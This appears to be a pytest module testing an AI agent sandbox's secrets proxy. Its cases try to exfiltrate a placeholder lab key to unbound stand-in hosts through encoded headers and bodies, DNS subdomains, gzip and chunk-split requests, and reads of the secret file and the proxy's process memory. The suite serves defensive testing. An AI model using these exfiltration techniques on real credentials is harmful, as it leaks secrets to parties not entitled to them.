"""Catalogue items 31-38: secrets, attacked from a jail of their own.

One secret, LABKEY, bound to api.allowed.example; the agent holds only its placeholder.
Besides each attack's tag, the real value itself is searched for everywhere outside the
bound server's own TLS: every lab event, both packet captures (so every plaintext byte
on the wire), panopticon's log and stderr.
"""

from __future__ import annotations

import base64
import secrets
from urllib.parse import quote

import pytest

import attacklib as lib
import jailrun as jail
from attacklib import WWW as OTHER

pytestmark = pytest.mark.root

A = lib.declare_module(__name__)
J = "secrets"
BOUND, BOUND_IP = "api.allowed.example", "198.51.100.11"
PH = "PLACEHOLDER_SECRET_VALUE_LABKEY"
# Not the placeholder's length, and with characters that need escaping.
VALUE = "lab-" + secrets.token_hex(16) + "/+=x"


def S(*args, **kw):  # noqa: N802 - an attack of this module's jail
    return A(*args, jail=J, **kw)


# -- 31 the placeholder toward a host it is not bound to -----------------------------------------
S(31, "the placeholder to its own host", "curl", control=True, expect=lib.status(200),
  argv=["-H", f"Authorization: Bearer {PH}", f"https://{BOUND}/c31/@T@"])
FORMS = {
    "in a header": ["-H", f"Authorization: Bearer {PH}"],
    "in the query": [],
    "in the body": ["--data-binary", f"key={PH}"],
    "base64 in Basic auth": ["-u", f"user:{PH}"],
    "hex in a header": ["-H", f"X-Key: {PH.encode().hex()}"],
    "percent-encoded in the body": ["--data-binary", "".join(f"%{b:02X}" for b in PH.encode())],
    "base64 in a JSON body": ["-H", "content-type: application/json", "--data-binary",
                              '{"k": "%s"}' % base64.b64encode(PH.encode()).decode()],
}
for title, extra in FORMS.items():
    query = f"?k={PH}" if title == "in the query" else ""
    S(31, f"{title}, to another allowed host", "curl", expect=lib.status(403),
      argv=[*extra, f"https://{OTHER}/@T@{query}"])
S(31, "in a WebSocket message to another host", "ws", host=OTHER, path="/ws",
  messages=[f"@T@ {PH}"], expect=lambda r: r["status"] != 101 or not r["echoes"]
  or "@T@" not in r["echoes"][0], may_reach={"kind": "https"})
S(31, "in a DNS name", "dns", server="198.51.100.53", name=f"{PH.lower()}.@T@.wild.example",
  expect=lib.not_answered_dns)

# -- 33 binding: the name checked as in 18-20, TLS only -------------------------------------------
S(33, "its own host at denied.example's address", "curl",
  argv=["--resolve", f"{BOUND}:443:198.51.100.20", "-H", f"Authorization: Bearer {PH}",
        f"https://{BOUND}/@T@"], may_reach={"server_ip": BOUND_IP})
S(33, "its own host fronted through another allowed name", "curl", expect=lib.status(421, 403),
  argv=["--http1.1", "-H", f"Host: {BOUND}", "-H", f"Authorization: Bearer {PH}",
        f"https://{OTHER}/@T@"])
S(33, "its own host over plain HTTP", "curl", expect=lib.status(403),
  argv=["-H", f"Authorization: Bearer {PH}", f"http://{BOUND}/@T@"])

# -- 35 reading the secret ---------------------------------------------------------------------
for title, path in (("the secret's file", "@SECRET_FILE@"),
                    ("the proxy's copy in the runtime dir", "@RUN@/secrets.json"),
                    ("the config", "@CONFIG@")):
    S(35, f"read {title}", "read", path=path,
      expect=lambda r: r.get("read") is False)
S(35, "the proxy's memory and environment", "proc", uid=lib.PROXY_UID,
  expect=lambda r: r["pids"] and not [k for k, v in r["attempts"].items()
                                      if v in ("read", "sent") or isinstance(v, list)])

# -- 36 the agent's own credentials on a secret's domain -----------------------------------------
S(36, "another credential to the secret's domain", "curl", expect=lib.status(403),
  argv=["-H", "Authorization: Bearer own-token-@T@", f"https://{BOUND}/@T@"])

# -- 37 DLP after decoding; undecodable refused; split across chunks -----------------------------
S(37, "gzip-compressed body with the placeholder", "exec", expect=lambda r: "403" in r["stdout"],
  argv=["sh", "-c", f"printf 'k={PH}&t=@T@' | gzip | curl -sS -m 5 -o /dev/null -w '%{{http_code}}' "
        f"-H 'Content-Encoding: gzip' --data-binary @- https://{OTHER}/@T@"])
S(37, "a body that claims gzip and is not", "curl", expect=lib.not_ok_status,
  argv=["-H", "Content-Encoding: gzip", "--data-binary", "@T@ not gzip", f"https://{OTHER}/x"])
# A streamed body: the request's head has gone upstream before the body is seen, so the
# agent gets a 502 (the upstream side cut), and the tag rides in the body only.
S(37, "the placeholder split across chunks", "tcp", host=OTHER, port=443, tls=True, sni=OTHER,
  pause=0.2, expect=lambda r: r.get("status") in (403, 502),
  chunks=[f"POST /c37 HTTP/1.1\r\nHost: {OTHER}\r\nTransfer-Encoding: chunked\r\n\r\n",
          f"{len(PH[:9]):x}\r\n{PH[:9]}\r\n", f"{len(PH[9:]) + 22:x}\r\n{PH[9:]} @T@ 12345\r\n",
          "0\r\n\r\n"])
S(37, "a credential shape (an AWS key) to an allowed host", "curl", expect=lib.status(403),
  argv=["--data-binary", "aws_access_key_id=AKIAIOSFODNN7EXAMPLE", f"https://{OTHER}/@T@"])

# -- 38 a large body, scanned to its end --------------------------------------------------------
S(38, "8 MB over plain HTTP with the placeholder at the very end", "big_http", host=OTHER,
  path="/big", size=8 << 20, tail=f"{PH} @T@", may_reach="paths",
  expect=lambda r: r.get("status") != 200)

# -- 32 reflection and 34 the real value anywhere: judged below ------------------------------------
REFLECT = S(32, "the bound host echoes the real value back", "curl", judged=False,
            argv=["-H", f"X-Key: {PH}", "--data-binary", f"body={PH}", f"https://{BOUND}/c32/@T@"])


@pytest.mark.parametrize("a", lib.params(__name__, J))
def test_attack(secrets_run, a):
    lib.judge(secrets_run, a)


@pytest.mark.threat(32, "reflection: the agent gets the placeholder back, never the value")
def test_32_an_echoed_secret_comes_back_as_the_placeholder(secrets_run):
    r = secrets_run.results[REFLECT.id]
    assert r["status"] == 200, r
    real = VALUE
    assert real not in r["body"] and PH in r["body"], r["body"][:500]
    # Positive control: the server did get the real value (in header and body).
    hit = secrets_run.events_with(secrets_run.tag(REFLECT))
    assert hit and real in hit[0]["headers"]["x-key"], hit
    assert quote(real, safe="") in hit[0]["body"], hit  # a form body: swapped URL-escaped


@pytest.mark.threat(34, "the real value: only at its own server, nowhere else")
def test_34_the_real_value_is_nowhere_else(secrets_run):
    real = VALUE
    where = [f"{e['kind']} at {e['server_ip']}" for e in secrets_run.events_with(real)]
    assert where and set(where) == {f"https at {BOUND_IP}"}, where  # control: it did arrive
    for variant in (real, quote(real, safe=""), base64.b64encode(real.encode()).decode(),
                    real.encode().hex()):
        assert variant.encode() not in secrets_run.net + secrets_run.host, variant
        assert variant not in secrets_run.log_text and variant not in secrets_run.stderr
        assert variant not in str(secrets_run.results)


@pytest.mark.threat(31, "every tripwire has its record")
def test_31_tripwires_are_logged(secrets_run):
    tripped = [a for a in lib.REGISTRY[J] if a.item == 31 and not a.control
               and a.kind == "curl"]
    for a in tripped:
        tag = secrets_run.tag(a)
        assert [r for r in secrets_run.log if tag in str(r) and "tripwire" in str(r)], a.name


@pytest.fixture(scope="module")
def secrets_run(attack_lab, run_jail):
    work = jail.Workdir()
    try:
        secret_file = work.write("labkey", VALUE + "\n", mode=0o600)
        config = jail.config_text(attack_lab, [BOUND, OTHER, jail.V4_ONLY[0], "*.wild.example"],
                                  f'[defaults.secrets.LABKEY]\ndomains = ["{BOUND}"]\n'
                                  f'file = "{secret_file}"\nenv_name = "LAB_API_KEY"\n'
                                  'exclusive = true\n')
        yield run_jail(attack_lab, J, config, {
            "SECRET_FILE": str(secret_file), "CONFIG": str(work.path / "config.toml")},
            work=work)
    finally:
        work.close()
